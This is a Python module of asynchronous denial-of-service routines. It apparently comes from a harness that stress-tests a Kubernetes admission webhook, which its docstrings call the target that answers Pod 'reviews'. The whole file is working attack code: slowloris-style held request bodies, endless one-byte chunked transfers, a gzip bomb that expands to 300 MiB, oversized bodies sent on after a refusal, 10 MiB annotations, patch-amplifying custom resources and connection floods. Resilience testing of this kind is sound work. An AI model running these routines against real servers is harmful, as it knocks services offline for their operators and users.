"""Attacks with bodies: long, compressed, without an end, or expensive to answer."""

from __future__ import annotations

import asyncio
import gzip
import itertools
from contextlib import suppress

from attacker import Target, many, read_answer, send_reviews
from bodies import GOOD, LINE, MIB, WRONG, custom, dear, request, structures, with_annotations


async def held_bodies(target: Target) -> None:
    """Send 30 bodies of 10 MiB but for their last bytes."""
    body = b" " * (10 * MIB)

    async def hold() -> None:
        while target.goes_on:
            reader, writer = await target.connect()
            with suppress(OSError, TimeoutError):
                writer.write(request(body[:-1], len(body)))
                await writer.drain()
                # Until the server closes it.
                async with asyncio.timeout_at(target.end):
                    await reader.read()
            writer.transport.abort()
            await asyncio.sleep(0.2)

    await many(30, hold)


async def tiny_chunks(target: Target) -> None:
    """Send chunks of one byte without end, with long extensions, after a refusal too."""
    chunks = b"1;%b\r\n \r\n" % (b"x" * 500) + b"1\r\n \r\n" * 10_000

    async def send() -> None:
        while target.goes_on:
            _, writer = await target.connect()
            with suppress(OSError):
                writer.write(LINE + b"Transfer-Encoding: chunked\r\n\r\n")
                while not writer.transport.is_closing() and target.goes_on:
                    writer.write(chunks)
                    await writer.drain()
            writer.transport.abort()

    await many(8, send)


async def gzip_bombs(target: Target) -> None:
    """Send bodies of 305 KB that would be 300 MB."""
    bomb = gzip.compress(b" " * (300 * MIB))

    async def send() -> None:
        while target.goes_on:
            reader, writer = await target.connect()
            with suppress(OSError, asyncio.IncompleteReadError):
                writer.write(request(bomb, extra=b"Content-Encoding: gzip\r\n"))
                await read_answer(reader)
            writer.transport.abort()

    await many(8, send)


async def refused_bodies(target: Target) -> None:
    """Announce more than is read, and send it on after the refusal."""

    async def send() -> None:
        while target.goes_on:
            _, writer = await target.connect()
            with suppress(OSError):
                writer.write(request(b"", 1000 * MIB))
                while not writer.transport.is_closing() and target.goes_on:
                    writer.write(b" " * MIB)
                    await writer.drain()
            writer.transport.abort()

    await many(8, send)


async def dear_pods(target: Target) -> None:
    """Send the dearest Pod on eight connections."""
    await send_reviews(target, dear(), 8)


async def dear_pods_behind_a_good_review(target: Target) -> None:
    """Send a good review first on each of 100 connections, and then the dearest Pod."""
    await send_reviews(target, dear(), 100, first=GOOD)


async def dear_pods_on_new_connections(target: Target) -> None:
    """Send the dearest Pod on a new connection each time."""
    await send_reviews(target, dear(), 50, reconnect=True)


async def long_annotations(target: Target) -> None:
    """Send 10 MiB of annotations on four connections."""
    body = with_annotations({"linkerd.io/x": "y" * (10 * MIB - 10_000)})
    await send_reviews(target, body, 4)


async def long_ways(target: Target) -> None:
    """Send custom resources whose patch would repeat a long name for each template."""
    template = {"template": {"metadata": {"annotations": {WRONG: True}}, "spec": {"containers": []}}}
    await send_reviews(target, custom({"k" * 300_000: [template] * 95}), 4)


async def many_reviews(target: Target) -> None:
    """Send good reviews as fast as they are answered, on 50 connections."""
    await send_reviews(target, GOOD, 50)


async def all_structures(target: Target) -> None:
    """Send every body that is full of structure, one after the other, twice at once."""
    bodies = [request(body) for body in structures().values()]

    async def send() -> None:
        for text in itertools.cycle(bodies):
            if not target.goes_on:
                return
            reader, writer = await target.connect()
            with suppress(OSError, asyncio.IncompleteReadError):
                writer.write(text)
                await read_answer(reader)
            writer.transport.abort()

    await many(2, send)
